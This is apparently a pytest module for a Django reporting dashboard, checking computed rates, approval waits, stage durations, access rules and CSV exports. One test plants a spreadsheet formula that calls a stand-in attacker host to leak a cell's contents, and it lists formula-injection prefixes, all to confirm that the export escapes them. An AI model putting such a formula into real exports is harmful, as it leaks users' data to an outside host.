"""The reports dashboard against a history with known answers (tests/reports/history.py).

Every number the page and its CSV files show for the period 18 February to 3 March 2026 is
worked out by hand below, from the list of runs in the history's docstring.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date, timedelta
from html.parser import HTMLParser
from typing import Any

import pytest
import time_machine
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from accounts.roles import roles_ensure
from audit.models import AuditAction, AuditEvent
from automation.models import (
    ClassificationAttempt,
    ClassifierResult,
    DeliveryResult,
    EffectAttempt,
    RecoveryAction,
    RecoveryKind,
    Run,
    StageName,
    StageOutcome,
    StageRecord,
)
from console.exports import EXPORTS, spreadsheet_safe
from tests.conftest import rolled_back
from tests.history_rows import rewrite
from tests.reports.history import NOW, History, at, build_history, person
from tests.visible_text import codes_shown, visible_text

PERIOD = "from=2026-02-18&to=2026-03-03"
PERIOD_START = at(18, 0)
ROUTES = ["commercial", "finance", "security_review", "service_desk"]
ROUTE_LABELS = {"all": "All runs", "commercial": "Commercial", "finance": "Finance",
                "security_review": "Security review", "service_desk": "Service desk"}  # fmt: skip
WEEKS = [date(2025, 12, 15) + timedelta(weeks=i) for i in range(12)]


# --- reading the page -------------------------------------------------------------------------

VOID = {"input", "br", "img", "meta", "link", "hr", "col", "source", "wbr"}


@dataclass
class Node:
    text: list[str] = field(default_factory=list)
    cells: list[str] = field(default_factory=list)
    href: str = ""

    @property
    def value(self) -> str:
        return " ".join("".join(self.text).split())


class PageIds(HTMLParser):
    """Text, table cells and first link of every element that has a data-testid."""

    def __init__(self) -> None:
        super().__init__()
        self.found: dict[str, Node] = {}
        self.all: dict[str, list[Node]] = {}
        self.stack: list[tuple[str, Node | None, list[str] | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in VOID:
            return
        named = dict(attrs)
        node = None
        if named.get("data-testid"):
            node = Node()
            testid = str(named["data-testid"])
            self.found.setdefault(testid, node)
            self.all.setdefault(testid, []).append(node)
        cell: list[str] | None = [] if tag in ("td", "th") else None
        for _, open_node, _ in self.stack:
            if open_node is not None and tag == "a" and not open_node.href:
                open_node.href = str(named.get("href", ""))
        self.stack.append((tag, node, cell))

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        while self.stack:
            open_tag, _, cell = self.stack.pop()
            if cell is not None:
                for _, open_node, _ in self.stack:
                    if open_node is not None:
                        open_node.cells.append(" ".join("".join(cell).split()))
            if open_tag == tag:
                return

    def handle_data(self, data: str) -> None:
        for _, node, cell in self.stack:
            if node is not None:
                node.text.append(data)
            if cell is not None:
                cell.append(data)


def read_ids(html: str) -> PageIds:
    parser = PageIds()
    parser.feed(html)
    return parser


def rows(response: object) -> list[list[str]]:
    content = response.content.decode()  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(content)))


# --- fixtures ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def history(django_db_setup: None, django_db_blocker: Any) -> Iterator[History]:
    """Built once for this module (two seconds of pipeline), rolled back after its last test."""
    with django_db_blocker.unblock(), rolled_back():
        built = build_history()
        give_known_durations()
        yield built


def give_known_durations() -> None:
    """In-process stages take a few real milliseconds; give them durations we can check."""
    rewrite(StageRecord).filter(started_at__lt=PERIOD_START).update(duration_ms=99_999)
    rewrite(StageRecord).filter(started_at__gte=at(4, 0, month=3)).update(duration_ms=99_999)
    inside = rewrite(StageRecord).filter(
        started_at__gte=PERIOD_START, started_at__lt=at(4, 0, month=3)
    )
    for stage, ms in {"intake": 5, "validate": 2, "normalize": 3, "enrich": 4, "decide": 20,
                      "complete": 1}.items():  # fmt: skip
        inside.filter(stage=stage).update(duration_ms=ms)
    inside.filter(stage="execute", outcome="authorized").update(duration_ms=10)
    inside.filter(stage="execute", outcome="delivered").update(duration_ms=60)
    for event_id, ms in {"evt-a1": 30, "evt-a2": 60, "evt-a3": 90}.items():
        inside.filter(stage="approve", run__event_id=event_id).update(duration_ms=ms)
    classify = inside.filter(stage="classify").order_by("started_at", "pk")
    for k, pk in enumerate(classify.values_list("pk", flat=True), start=1):
        rewrite(StageRecord).filter(pk=pk).update(duration_ms=100 * k)


@pytest.fixture
def known(history: History, db: None) -> History:
    return history


def test_every_code_the_history_wrote_is_a_member_of_its_enum(known: History) -> None:
    """The reports filter on these enums: a code written outside them would be missed."""

    def written(rows: Any, field: str) -> set[str]:
        return set(rows.objects.values_list(field, flat=True).distinct())

    assert written(StageRecord, "stage") == set(StageName)
    assert written(StageRecord, "outcome") <= set(StageOutcome)
    assert written(EffectAttempt, "outcome") <= set(DeliveryResult)
    assert written(ClassificationAttempt, "outcome") <= set(ClassifierResult)
    assert written(RecoveryAction, "action") <= set(RecoveryKind)
    assert written(AuditEvent, "action") <= set(AuditAction)
    assert len(written(StageRecord, "outcome")) > 10
    assert len(written(AuditEvent, "action")) > 15


def client_for(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def lead(known: History) -> Client:
    return client_for(known.lead)


def get(client: Client, url: str) -> object:
    with time_machine.travel(NOW, tick=False):
        return client.get(url)


def page(client: Client, query: str = PERIOD) -> PageIds:
    response = get(client, f"{reverse('reports:dashboard')}?{query}")
    assert response.status_code == 200  # type: ignore[attr-defined]
    return read_ids(response.content.decode())  # type: ignore[attr-defined]


def csv_rows(client: Client, panel: str, query: str = PERIOD) -> list[list[str]]:
    response = get(client, f"{reverse('reports:csv', args=[panel])}?{query}")
    assert response.status_code == 200  # type: ignore[attr-defined]
    assert response["Content-Type"].startswith("text/csv")  # type: ignore[index]
    return rows(response)


# --- 1. straight-through rate -----------------------------------------------------------------

# (runs, completed, straight through) per week and route; every other cell is empty.
STRAIGHT_THROUGH = {
    (date(2026, 2, 9), "all"): (4, 4, 3),  # r1, r2, r3; x1 resolved by hand
    (date(2026, 2, 9), "commercial"): (1, 1, 1),
    (date(2026, 2, 9), "finance"): (1, 1, 1),
    (date(2026, 2, 9), "service_desk"): (1, 1, 1),
    (date(2026, 2, 16), "all"): (3, 2, 2),  # r4, r5; a1 rejected
    (date(2026, 2, 16), "finance"): (1, 1, 1),
    (date(2026, 2, 16), "security_review"): (1, 0, 0),
    (date(2026, 2, 16), "service_desk"): (1, 1, 1),
    (date(2026, 2, 23), "all"): (7, 6, 3),  # r7, r8, r9; l1 corrected, a2 a3 approved, b1 blocked
    (date(2026, 2, 23), "commercial"): (1, 1, 1),
    (date(2026, 2, 23), "finance"): (2, 2, 1),
    (date(2026, 2, 23), "security_review"): (2, 2, 0),
    (date(2026, 2, 23), "service_desk"): (1, 1, 1),
    (date(2026, 3, 2), "all"): (4, 2, 2),  # r10, r11; a4 pending, c1 held (a5, r12: 4 March)
    (date(2026, 3, 2), "finance"): (1, 1, 1),
    (date(2026, 3, 2), "security_review"): (1, 0, 0),
    (date(2026, 3, 2), "service_desk"): (1, 1, 1),
}
SHARE_TEXT = {
    (4, 3): "75.0% (3 of 4)",
    (3, 2): "66.7% (2 of 3)",
    (7, 3): "42.9% (3 of 7)",
    (4, 2): "50.0% (2 of 4)",
    (2, 1): "50.0% (1 of 2)",
    (1, 1): "100.0% (1 of 1)",
    (1, 0): "0.0% (0 of 1)",
    (2, 0): "0.0% (0 of 2)",
    (0, 0): "no runs",
}
RATE_TEXT = {(4, 3): "0.7500", (3, 2): "0.6667", (7, 3): "0.4286", (4, 2): "0.5000",
             (2, 1): "0.5000", (1, 1): "1.0000", (1, 0): "0.0000", (2, 0): "0.0000"}  # fmt: skip


def test_straight_through_rate_per_week_and_route(lead: Client) -> None:
    ids = page(lead)
    for week in WEEKS:
        for route in ["all", *ROUTES]:
            runs, _, straight = STRAIGHT_THROUGH.get((week, route), (0, 0, 0))
            cell = ids.found[f"stp-{week.isoformat()}-{route}"].value
            assert cell == SHARE_TEXT[(runs, straight)], (week, route)
    # Slope of 75, 66.7, 42.9 and 50 over four consecutive weeks: -9.88 points a week.
    assert ids.found["stp-trend"].value == "-9.9 points a week"
    assert ids.found["stp-trend-finance"].value == "-5.0 points a week"  # 100, 100, 50, 100
    for route in ("commercial", "security_review", "service_desk"):
        assert ids.found[f"stp-trend-{route}"].value == "+0.0 points a week"
    marks = [n.value for n in ids.all["stp-activation"]]
    assert marks == ["policy-2 on 2026-02-20 12:00", "policy-3 on 2026-02-27 12:00"]


def test_straight_through_csv(lead: Client) -> None:
    expected = [["Week starting", "Route", "Route code", "Runs", "Completed", "Straight through",
                 "Rate"]]  # fmt: skip
    for week in WEEKS:
        for route in ["all", *ROUTES]:
            runs, completed, straight = STRAIGHT_THROUGH.get((week, route), (0, 0, 0))
            rate = RATE_TEXT.get((runs, straight), "")
            expected.append([week.isoformat(), ROUTE_LABELS[route], route, str(runs),
                             str(completed), str(straight), rate])  # fmt: skip
    assert csv_rows(lead, "straight-through") == expected


def test_the_chart_marks_each_activation_on_the_time_axis(lead: Client) -> None:
    html = get(lead, f"{reverse('reports:dashboard')}?{PERIOD}").content.decode()  # type: ignore[attr-defined]
    chart = html[html.index('data-testid="chart-straight-through"') :]
    chart = chart[: chart.index("</svg>")]
    assert chart.count('class="marker"') == 2
    assert "<title>policy-2 activated 2026-02-20 12:00 UTC</title>" in chart
    assert "<title>All runs: 42.9% (3 of 7)</title>" in chart
    assert "<title>Security review: 0.0% (0 of 2)</title>" in chart  # routes in words
    handoffs = html[html.index('data-testid="chart-handoffs"') :]
    assert "<title>Decide · Sent for approval: 4</title>" in handoffs[: handoffs.index("</svg>")]
    # Weeks without runs break the line instead of dropping to zero.
    assert chart.count('class="line c0 strong"') == 1


# --- 2. where work goes to people -------------------------------------------------------------


def test_where_work_goes_to_people_this_period_and_the_previous(lead: Client) -> None:
    ids = page(lead)
    table = {
        key.removeprefix("handoff-"): node.cells
        for key, node in ids.found.items()
        if key.startswith("handoff-")
    }
    # Each stage and reason in words, its code beside it as secondary text.
    assert table == {
        # a1, a2, a3 and a4 asked for approval in the period; none in the two weeks before.
        "approval_required": [
            "Decide decide", "Sent for approval approval_required", "4", "0", "+4",
        ],
        "low_confidence": [  # l1 under policy-2
            "Decide decide", "Unsure reading low_confidence", "1", "0", "+1",
        ],
        "risk_signal": ["Decide decide", "Risk signal risk_signal", "0", "0", "0"],
        "classification_invalid": [  # c1
            "Read classify", "Unusable reading classification_invalid", "1", "0", "+1",
        ],
        "retry_exhausted": [  # x1, 12 February
            "Read classify", "Classifier unavailable retry_exhausted", "0", "1", "-1",
        ],
        "extraction_invalid": [
            "Read classify", "Fields need checking extraction_invalid", "0", "0", "0",
        ],
        "unavailable": ["Deliver execute", "Unreachable unavailable", "0", "0", "0"],
        "uncertain": ["Deliver execute", "Unknown uncertain", "0", "0", "0"],
        "rejected": ["Deliver execute", "Refused rejected", "0", "0", "0"],
    }  # fmt: skip
    assert csv_rows(lead, "handoffs") == [
        ["Stage", "Stage code", "Reason", "Reason code", "Runs", "Runs in the previous period",
         "Change"],
        ["Decide", "decide", "Sent for approval", "approval_required", "4", "0", "4"],
        ["Decide", "decide", "Unsure reading", "low_confidence", "1", "0", "1"],
        ["Read", "classify", "Unusable reading", "classification_invalid", "1", "0", "1"],
        ["Read", "classify", "Classifier unavailable", "retry_exhausted", "0", "1", "-1"],
        ["Decide", "decide", "Risk signal", "risk_signal", "0", "0", "0"],
        ["Read", "classify", "Fields need checking", "extraction_invalid", "0", "0", "0"],
        ["Deliver", "execute", "Unreachable", "unavailable", "0", "0", "0"],
        ["Deliver", "execute", "Unknown", "uncertain", "0", "0", "0"],
        ["Deliver", "execute", "Refused", "rejected", "0", "0", "0"],
    ]  # fmt: skip


def test_a_preset_period_compares_with_the_days_before_it(lead: Client) -> None:
    ids = page(lead, "period=7d")
    assert ids.found["period"].value.startswith("From 2026-02-25 12:00 to 2026-03-04 12:00 UTC")
    assert ids.found["handoff-approval_required"].cells[2:] == ["3", "1", "+2"]  # a3 a4 a5 | a2
    assert ids.found["handoff-low_confidence"].cells[2:] == ["0", "1", "-1"]
    assert ids.found["handoff-classification_invalid"].cells[2:] == ["1", "0", "+1"]


# --- 3. waiting for approval ------------------------------------------------------------------


def test_approval_waits_and_the_pending_ones_oldest_first(known: History, lead: Client) -> None:
    ids = page(lead)
    # Decided in the period: a2 after 30 min, a3 after 2 h, a1 (rejected) after 5 h.
    # 90th percentile: 2 h + 0.8 * (5 h - 2 h) = 4 h 24 min.
    assert ids.found["waits-all"].cells == ["All groups", "3", "2 h", "4 h 24 min", "5 h"]
    assert ids.found["waits-security-approvers"].cells == [
        "security-approvers", "3", "2 h", "4 h 24 min", "5 h",
    ]  # fmt: skip
    a4, a5 = known.approvals["a4"], known.approvals["a5"]
    assert ids.found["pending-total"].value == "2"
    assert ids.found[f"pending-{a4.pk}"].cells == [
        f"#{a4.pk}", "evt-a4", "Queue an account review queue_account_review", "security-approvers",
        "2026-03-02 09:00", "2 d 3 h",
    ]  # fmt: skip
    assert ids.found[f"pending-{a5.pk}"].cells[-1] == "4 h"
    order = [k for k in ids.found if k.startswith("pending-") and k != "pending-total"]
    assert order == [f"pending-{a4.pk}", f"pending-{a5.pk}"]
    oldest = ids.found["oldest-pending"]
    assert oldest.value.startswith(f"Oldest: request #{a4.pk} (Queue an account review, evt-a4)")
    assert "waiting 2 d 3 h for security-approvers" in oldest.value
    assert oldest.href == reverse("approvals:evidence", args=[a4.pk])


def test_approval_csvs(known: History, lead: Client) -> None:
    assert csv_rows(lead, "approval-waits") == [
        [
            "Group",
            "Decided",
            "Median wait (seconds)",
            "90th percentile wait (seconds)",
            "Longest wait (seconds)",
        ],
        ["All groups", "3", "7200", "15840", "18000"],
        ["security-approvers", "3", "7200", "15840", "18000"],
    ]
    a4, a5 = known.approvals["a4"], known.approvals["a5"]
    assert csv_rows(lead, "pending-approvals") == [
        ["Request", "Run", "Event id", "Effect", "Effect code", "Group", "Owner",
         "Waiting since", "Age (seconds)", "Escalated"],
        [str(a4.pk), str(a4.run_id), "evt-a4", "Queue an account review", "queue_account_review",
         "security-approvers", "security-approvers", "2026-03-02T09:00:00+00:00", "183600", "no"],
        [str(a5.pk), str(a5.run_id), "evt-a5", "Queue an account review", "queue_account_review",
         "security-approvers", "security-approvers", "2026-03-04T08:00:00+00:00", "14400", "no"],
    ]  # fmt: skip


# --- 4. rule changes --------------------------------------------------------------------------


def test_rates_in_equal_windows_around_each_activation(lead: Client) -> None:
    ids = page(lead)
    # policy-2, 20 Feb 12:00, 7 days each side. Before: r4, r5, a1. After: r7 l1 r8 a2 b1 a3.
    assert ids.found["rules-policy-2-before"].cells == [
        "policy-2 after policy-1", "2026-02-20 12:00", "7 d",
        "before", "3", "66.7%", "66.7%", "33.3%", "0.0%",
    ]  # fmt: skip
    assert ids.found["rules-policy-2-after"].cells == [
        "after", "6", "83.3%", "33.3%", "33.3%", "16.7%",
    ]  # fmt: skip
    # policy-3, 27 Feb 12:00: only 5 days have passed, so 5 days each side.
    assert ids.found["rules-policy-3-before"].cells == [
        "policy-3 after policy-2", "2026-02-27 12:00", "5 d",
        "before", "6", "83.3%", "33.3%", "33.3%", "16.7%",
    ]  # fmt: skip
    assert ids.found["rules-policy-3-after"].cells == [  # r9 r10 r11 r12; a4 a5 pending; c1
        "after", "7", "57.1%", "57.1%", "28.6%", "0.0%",
    ]  # fmt: skip
    header, *body = csv_rows(lead, "rule-changes")
    assert header == ["Version", "Previous version", "Activated at", "Window (seconds)",
                      "Before or after", "Runs", "Completed", "Straight through",
                      "Sent for approval", "Blocked", "Completion rate", "Straight-through rate",
                      "Approval rate", "Block rate"]  # fmt: skip
    two = ["policy-2", "policy-1", "2026-02-20T12:00:00+00:00", "604800"]
    three = ["policy-3", "policy-2", "2026-02-27T12:00:00+00:00", "432000"]
    assert body == [
        [*two, "before", "3", "2", "2", "1", "0", "0.6667", "0.6667", "0.3333", "0.0000"],
        [*two, "after", "6", "5", "2", "2", "1", "0.8333", "0.3333", "0.3333", "0.1667"],
        [*three, "before", "6", "5", "2", "2", "1", "0.8333", "0.3333", "0.3333", "0.1667"],
        [*three, "after", "7", "4", "4", "2", "0", "0.5714", "0.5714", "0.2857", "0.0000"],
    ]


def test_the_policy_page_shows_the_same_rates(known: History, lead: Client) -> None:
    html = get(lead, reverse("policy:list")).content.decode()  # type: ignore[attr-defined]
    cells = read_ids(html).found["impact"].cells
    # Newest first: policy-3 (5-day windows), policy-2, then policy-1 loaded in November.
    assert [c for c in cells if c.startswith("policy-")] == ["policy-3", "policy-2", "policy-1"]
    three = cells.index("policy-3")
    assert cells[three : three + 14] == [
        "policy-3", "2026-02-27 12:00", "before", "6", "83.3%", "33.3%", "33.3%", "16.7%",
        "after", "7", "57.1%", "57.1%", "28.6%", "0.0%",
    ]  # fmt: skip


# --- 5. stage durations -----------------------------------------------------------------------

STAGE_LABELS = {"intake": "Intake", "validate": "Check", "normalize": "Prepare",
                "enrich": "Look up", "classify": "Read", "decide": "Decide", "approve": "Approve",
                "execute": "Deliver", "complete": "Finish"}  # fmt: skip
STAGES = [
    # stage, attempts, median, 95th percentile. Runs a1, r7, l1, r8, a2, b1, a3, r9, r10, a4,
    # r11 and c1 started in the period; a5 and r12 on 4 March, after it.
    ("intake", "12", "5", "5"),
    ("validate", "12", "2", "2"),
    ("normalize", "12", "3", "3"),
    ("enrich", "12", "4", "4"),
    # Thirteen attempts (l1 twice: its correction) of 100..1300 ms: the 7th is 700; the 95th
    # percentile lies at 0.95 * 12 = 11.4, between 1200 and 1300.
    ("classify", "13", "700", "1240"),
    ("decide", "12", "20", "20"),  # c1 never reached policy; l1 was decided twice
    ("approve", "3", "60", "87"),  # a1 30, a2 60, a3 90: 60 + 0.9 * 30
    ("execute", "10", "60", "60"),  # two authorisations of 10 ms, eight deliveries of 60 ms
    ("complete", "8", "1", "1"),
]


def test_stage_durations_median_and_95th_percentile(lead: Client) -> None:
    ids = page(lead)
    for stage, attempts, median, p95 in STAGES:
        assert ids.found[f"stage-{stage}"].cells == [f"{STAGE_LABELS[stage]} {stage}", attempts,
                                                     f"{median} ms", f"{p95} ms"]  # fmt: skip
    order = [k.removeprefix("stage-") for k in ids.found if k.startswith("stage-")]
    assert order == [s[0] for s in STAGES]
    assert csv_rows(lead, "stage-durations") == [
        ["Stage", "Stage code", "Attempts", "Median (ms)", "95th percentile (ms)"],
        *[
            [STAGE_LABELS[stage], stage, attempts, f"{median}.0", f"{p95}.0"]
            for stage, attempts, median, p95 in STAGES
        ],
    ]


# --- the page as a whole ----------------------------------------------------------------------


def test_each_panel_has_a_chart_a_definition_and_a_csv(lead: Client) -> None:
    response = get(lead, f"{reverse('reports:dashboard')}?{PERIOD}")
    html = response.content.decode()  # type: ignore[attr-defined]
    # Six charts: the measured-quality panel draws none while no QA sample was reviewed.
    assert html.count('<svg class="chart" role="img"') == 6
    assert html.count('<p class="definition">') == 7
    assert 'data-testid="quality-none"' in html
    for panel in ("straight-through", "handoffs", "approval-waits", "rule-changes",
                  "stage-durations", "pending-approvals", "measured-quality",
                  "model-spend"):  # fmt: skip
        assert f'href="/reports/{panel}.csv?from=2026-02-18&amp;to=2026-03-03"' in html
    assert "<script" not in html
    assert 'href="/reports/" aria-current="page">Reports</a>' in html


def test_the_page_costs_the_same_queries_whatever_the_history(
    known: History, lead: Client, django_assert_max_num_queries: object
) -> None:
    with django_assert_max_num_queries(20):  # type: ignore[operator]
        get(lead, f"{reverse('reports:dashboard')}?{PERIOD}")


def test_approvers_may_not_see_the_reports(db: None) -> None:
    roles_ensure()
    approver = client_for(person("bea", "security-approvers"))
    assert approver.get(reverse("reports:dashboard")).status_code == 403
    assert approver.get(reverse("reports:csv", args=["handoffs"])).status_code == 403
    assert "/reports/" not in approver.get(reverse("approvals:inbox")).content.decode()
    auditor = client_for(person("aud", "auditors"))
    assert auditor.get(reverse("reports:dashboard")).status_code == 200


def test_a_bad_period_is_explained_and_the_default_shown(lead: Client) -> None:
    response = get(lead, f"{reverse('reports:dashboard')}?from=2026-03-03&to=2026-02-18")
    assert response.status_code == 400  # type: ignore[attr-defined]
    assert "The first date comes after the last one." in response.content.decode()  # type: ignore[attr-defined]
    assert get(lead, "/reports/handoffs.csv?from=2026-03-01").status_code == 400  # type: ignore[attr-defined]
    assert get(lead, "/reports/nothing.csv").status_code == 404  # type: ignore[attr-defined]


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_stays_text(
    known: History, lead: Client
) -> None:
    a4 = known.approvals["a4"]
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    Run.objects.filter(pk=a4.run_id).update(event_id=formula)

    rows = csv_rows(lead, "pending-approvals")

    assert rows[1][2] == "'" + formula
    assert [spreadsheet_safe(v) for v in ("+1+1", "@SUM(A1)", "-2+3", "-0.0500", "12", 7)] == [
        "'+1+1", "'@SUM(A1)", "'-2+3", "-0.0500", "12", 7,
    ]  # fmt: skip


# --- one vocabulary: words first, codes as secondary text --------------------------------------

CODES = [
    "needs_review", "low_confidence", "risk_signal", "queue_account_review",
    "send_internal_notification", "create_follow_up", "service_desk", "security_review",
    "approval_required", "classification_invalid", "retry_exhausted", "extraction_invalid",
]  # fmt: skip
LABELLED = {"Stage", "Reason", "Route", "Effect"}


def test_the_dashboard_shows_codes_only_as_secondary_text(lead: Client) -> None:
    html = get(lead, f"{reverse('reports:dashboard')}?{PERIOD}").content.decode()  # type: ignore[attr-defined]

    assert codes_shown(html, CODES) == []
    text = visible_text(html)
    for words in ("Service desk", "Security review", "Sent for approval", "Unsure reading",
                  "Queue an account review", "Deliver"):  # fmt: skip
        assert words in text
    # The codes are still there, quietly, for whoever matches on them.
    assert '<small class="code">approval_required</small>' in html
    assert '<small class="code">service_desk</small>' in html


def test_every_csv_header_is_words_and_a_code_column_follows_each_labelled_one(
    lead: Client,
) -> None:
    code_columns = 0
    for panel in EXPORTS:
        header, *body = csv_rows(lead, panel)
        assert not [h for h in header if "_" in h], panel
        for i, heading in enumerate(header):
            if heading in LABELLED:
                assert header[i + 1] == f"{heading} code", (panel, heading)
            if not heading.endswith(" code"):
                continue
            code_columns += 1
            assert header[i - 1] == heading.removesuffix(" code"), (panel, heading)
            for row in body:
                assert row[i] and "_" not in row[i - 1], (panel, row)
    assert code_columns == 6  # two routes, two stages, a reason and an effect
